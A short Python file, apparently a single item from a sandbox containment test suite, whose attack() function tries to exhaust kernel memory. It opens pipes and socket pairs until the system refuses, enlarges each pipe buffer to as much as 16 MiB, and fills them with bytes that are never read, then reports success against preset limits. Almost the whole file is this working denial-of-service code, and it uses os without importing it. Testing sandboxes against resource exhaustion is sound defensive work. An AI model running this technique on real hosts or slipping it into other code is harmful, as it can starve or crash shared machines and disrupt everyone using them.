# Fills pipes and socket pairs, made as large as they can be, with bytes that nobody reads.
# They are the kernel's memory, not the process'.
# contained: passed
import fcntl
import socket


def attack():
    keep, total, block = [], 0, bytes(1 << 16)
    for make in (os.pipe, socket.socketpair):
        while True:
            try:
                ends = make()
            except OSError:
                break
            keep.append(ends)
            if len(keep) > 4 * TARGET["open_files"]:
                return f"{len(keep)} pairs"
            writer = ends[1] if isinstance(ends[1], int) else ends[1].fileno()
            os.set_blocking(writer, False)
            for size in (1 << 24, 1 << 20):
                try:
                    fcntl.fcntl(writer, 1031, size)
                    break
                except OSError:
                    pass
            try:
                while True:
                    total += os.write(writer, block)
            except OSError:
                pass
        for ends in keep[:8]:
            for end in ends:
                os.close(end) if isinstance(end, int) else end.close()
    return f"{total >> 20} MiB" if total > TARGET["memory_bytes"] // 4 else None
